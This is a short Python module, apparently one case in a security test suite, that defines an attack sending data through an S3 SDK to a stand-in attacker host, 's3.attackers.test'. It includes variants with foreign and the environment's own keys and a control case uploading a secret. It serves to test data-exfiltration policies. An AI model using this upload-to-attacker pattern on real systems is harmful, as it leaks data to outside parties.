"""A03: have the SDK talk to a server of the attacker's that speaks S3.

Why unlabelled: nothing in the policy names that host, whatever is sent there.
"""

from hands import FOREIGN


def attack(hands):
    put(hands, "s3.attackers.test", FOREIGN, hands.plain())


def by_own_keys(hands):
    """With the environment's own keys: what they sign is for AWS, so it never goes there, in any mode."""
    put(hands, "s3.attackers.test", None, hands.plain())


def twin(hands):
    put(hands, "kept.test", FOREIGN, hands.secret())


def put(hands, host, keys, text):
    hands.call("s3", "PutObject", keys, host, Bucket="attackers-files", Key=hands.trial, Body=text.encode())
